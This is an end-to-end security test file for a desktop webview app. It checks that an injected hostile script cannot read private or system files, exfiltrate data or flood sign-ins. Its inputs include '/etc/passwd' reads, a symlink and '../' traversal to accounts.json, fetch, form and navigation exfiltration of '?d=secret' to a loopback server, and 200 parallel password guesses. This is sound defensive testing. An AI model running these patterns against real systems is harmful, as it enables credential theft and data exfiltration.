// A hostile script in the main window (an XSS, a compromised dependency), from page JS in the
// real webview: it cannot widen the read scope, read outside it or the private files through
// any read path, carry data off by navigating or opening windows, create menus or windows, or
// starve the app with a flood of sign-ins.
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { WebDriver } from 'selenium-webdriver';
import { inPage, invokeInPage, launchApp, logLines, type Settled, startLoopback, type Loopback } from './app';

let driver: WebDriver;
const data = inject('appDataDir');
const appLog = inject('appLogFile');
const readable = join(data, 'files');
const accounts = join(data, 'private', 'accounts.json');

/** A loopback server that records every request it gets. */
let loopback: Loopback | undefined;
const requests: string[] = [];
let serverUrl = '';

beforeAll(async () => {
  loopback = await startLoopback((request, response) => {
    requests.push(request.url ?? '');
    response.end('<h1>exfiltrated</h1>');
  });
  serverUrl = loopback.url;
  driver = await launchApp();
  mkdirSync(join(readable, 'security'), { recursive: true });
});

afterAll(async () => {
  await driver?.quit();
  await loopback?.close();
});

const kindOf = (settled: Settled) =>
  'error' in settled ? ((settled.error as { kind?: string }).kind ?? String(settled.error)) : 'accepted';

describe('A hostile script in the main window', () => {
  it('cannot read the private files or outside the scope through any app command', async () => {
    const link = join(readable, 'security', 'accounts-link.json');
    symlinkSync(accounts, link);
    for (const path of [accounts, link, '/etc/passwd', `${readable}/../private/accounts.json`]) {
      for (const command of ['read_file', 'read_file_bytes', 'file_info']) {
        expect(kindOf(await invokeInPage(driver, command, { path })), `${command} ${path}`).toBe('outsideScope');
      }
      const streamed = await inPage<{ kind: string; chunks: number }>(
        driver,
        `let chunks = 0; // data messages only: a channel also gets an { end } message when dropped
         const reader = '__CHANNEL__:' + transformCallback((m) => { if ('message' in m) chunks++; });
         const kind = await invoke('load_image', { path: args[0], reader }).then(() => 'accepted', (e) => e.kind);
         return { kind, chunks };`,
        path,
      );
      expect(streamed, `load_image ${path}`).toEqual({ kind: 'outsideScope', chunks: 0 });
    }
  });

  it('cannot read the private files through the fs plugin or the asset protocol', async () => {
    // No fs plugin command is granted (its reads are unbounded): the ACL refuses each one, by
    // name, for the private files and for a file in the readable folder alike.
    const shared = join(readable, 'security', 'shared.txt');
    writeFileSync(shared, 'shared');
    for (const path of [accounts, shared]) {
      for (const command of [
        'plugin:fs|read_text_file',
        'plugin:fs|read_file',
        'plugin:fs|read_text_file_lines',
        'plugin:fs|read_dir',
        'plugin:fs|open',
        'plugin:fs|stat',
        'plugin:fs|copy_file',
      ]) {
        const refused = await invokeInPage(driver, command, { path });
        // The ACL names `plugin:fs|read_file` as `fs.read_file`.
        const named = command.replace('plugin:', '').replace('|', '.');
        expect(String((refused as { error: unknown }).error), `${command} ${path}`).toContain(
          `${named} not allowed. Permissions associated with this command`,
        );
      }
    }
    const fetched = await inPage<string[]>(
      driver,
      `const urls = ['asset://localhost/' + encodeURIComponent(args[0]), 'http://asset.localhost/' + encodeURIComponent(args[0])];
       return Promise.all(urls.map((url) => fetch(url).then((r) => 'status ' + r.status, () => 'refused')));`,
      accounts,
    );
    expect(fetched).toEqual(['refused', 'refused']);
    // The same file through the app's bounded read.
    expect(await invokeInPage(driver, 'read_file', { path: shared })).toEqual({ ok: 'shared' });
  });

  it('cannot carry data off: navigation, forms, fetch, images and new windows all stay home', async () => {
    const before = await driver.getCurrentUrl();
    const handles = (await driver.getAllWindowHandles()).length;
    // Each attempt is judged only once what refuses it has answered: the page's CSP (its
    // violation reports) and the navigation guard (its log line, by origin). `window.open` and
    // the anchor are refused at once, in the page (no user gesture: WebKit opens no window).
    const refusals = () => logLines(appLog, `refused to navigate to ${serverUrl}`).length;
    const navigations = refusals();
    const attempts = await inPage<Record<string, string>>(
      driver,
      `const url = args[0] + '/?d=secret';
       window.__violations = [];
       document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective));
       const outcome = {};
       outcome.fetch = await fetch(url).then(() => 'sent', () => 'refused');
       outcome.open = String(window.open(url));
       const a = document.createElement('a');
       a.href = url; a.target = '_blank'; document.body.append(a); a.click(); a.remove();
       const form = document.createElement('form');
       form.action = url; form.method = 'post'; document.body.append(form);
       try { form.submit(); outcome.form = 'submitted'; } catch (e) { outcome.form = String(e); }
       form.remove();
       new Image().src = url + '&img';
       outcome.frozen = String(Object.isFrozen(Object.prototype));
       try { eval('1 + 1'); outcome.eval = 'ran'; } catch (e) { outcome.eval = e.name; }
       location.href = url;
       return outcome;`,
      serverUrl,
    );
    expect(attempts).toMatchObject({ fetch: 'refused', open: 'null', frozen: 'true', eval: 'EvalError' });
    const violations = () => driver.executeScript<string[]>('return window.__violations;');
    await driver.wait(async () => {
      const seen = await violations();
      return ['connect-src', 'form-action', 'img-src'].every((directive) => seen.some((v) => v.startsWith(directive)));
    }, 10_000);
    await driver.wait(() => refusals() === navigations + 1, 10_000);
    // A second navigation, once the first was refused (so that it cannot cancel the first).
    await driver.executeScript('window.location.assign(arguments[0] + "/?d=secret&assign");', serverUrl);
    await driver.wait(() => refusals() === navigations + 2, 10_000);
    expect(await driver.getCurrentUrl()).toBe(before);
    expect(await driver.getAllWindowHandles()).toHaveLength(handles);
    expect(requests).toEqual([]);
    // The page still works.
    expect(await invokeInPage(driver, 'greet', { name: 'still here' })).toEqual({ ok: 'Hello, still here!' });
  });

  it('cannot create a menu, a tray icon, a window or a webview, or reach the window manager', async () => {
    const attempts: [string, unknown][] = [
      ['plugin:menu|new', { kind: 'Menu', options: {} }],
      ['plugin:tray|new', { options: {} }],
      ['plugin:webview|create_webview_window', { options: { label: 'evil', url: 'https://example.com' } }],
      ['plugin:window|set_title', { label: 'main', value: 'pwned' }],
      ['plugin:window|close', { label: 'main' }],
      ['plugin:path|resolve_directory', { directory: 14 }],
      // (`plugin:event|emit_to` is granted for the seed's `emitTo('settings', …)`: it only
      // narrows what `emit` already sends to every window.)
    ];
    for (const [command, args] of attempts) {
      const refused = await invokeInPage(driver, command, args);
      expect(String((refused as { error: unknown }).error), command).toMatch(/not allowed/);
    }
    expect(await driver.getAllWindowHandles()).toHaveLength(1);
  });

  it('200 wrong sign-ins at once leave greet and an in-scope read answering within 0.5 s', async () => {
    const note = join(readable, 'security', 'note.txt');
    writeFileSync(note, 'still readable');
    // greet, then the read, over and over for as long as the guesses are in flight. The promise is
    // the median (one call a busy 2-core machine held up does not break it), with a generous cap on
    // the slowest; waiting behind the hashes would make most calls take seconds.
    const result = await inPage<{
      greetMs: number[];
      readMs: number[];
      reads: string[];
      kinds: Record<string, number>;
    }>(
      driver,
      `let settled = false;
       const guesses = Promise.all(Array.from({ length: 200 }, (_, i) =>
         invoke('login', { user: 'tauri', password: 'guess-' + i }).then(() => 'accepted', (e) => e.kind)));
       guesses.then(() => (settled = true));
       const greetMs = [], readMs = [], reads = [];
       do {
         const t0 = performance.now();
         await invoke('greet', { name: 'x' });
         const t1 = performance.now();
         reads.push(await invoke('read_file', { path: args[0] }));
         greetMs.push(t1 - t0);
         readMs.push(performance.now() - t1);
       } while (!settled && greetMs.length < 100);
       const kinds = {};
       for (const kind of await guesses) kinds[kind] = (kinds[kind] ?? 0) + 1;
       return { greetMs, readMs, reads, kinds };`,
      note,
    );
    const median = (ms: number[]) => [...ms].sort((a, b) => a - b)[Math.floor(ms.length / 2)];
    console.info(
      `under 200 sign-ins, ${result.greetMs.length} rounds: greet ${median(result.greetMs)} ms (median), read ${median(result.readMs)} ms`,
    );
    expect(result.reads.every((text) => text === 'still readable')).toBe(true);
    expect(median(result.greetMs)).toBeLessThan(500);
    expect(median(result.readMs)).toBeLessThan(500);
    expect(Math.max(...result.greetMs, ...result.readMs)).toBeLessThan(2000);
    // A few guesses were checked; the rest were refused as busy without hashing.
    expect(result.kinds.accepted).toBeUndefined();
    expect(result.kinds.unauthorized).toBeLessThanOrEqual(4);
    expect(result.kinds.busy).toBeGreaterThanOrEqual(196);
  });

  it('cannot widen the scope: naming a folder only opens the picker, one at a time', async () => {
    const outcome = await inPage<Record<string, unknown>>(
      driver,
      `// The native folder dialog opens and waits for the user; nobody answers it here.
       window.__pendingPick = invoke('add_scope_folder', { path: '/' });
       await new Promise((r) => setTimeout(r, 500));
       const second = await invoke('add_scope_folder', { path: '/etc' }).then(() => 'accepted', (e) => e.kind);
       const read = await invoke('read_file', { path: '/etc/passwd' }).then(() => 'accepted', (e) => e.kind);
       const folders = await invoke('scope_folders');
       return { second, read, folders };`,
    );
    expect(outcome).toEqual({
      second: 'busy',
      read: 'outsideScope',
      folders: [{ path: readable, removable: false }],
    });
  });
});
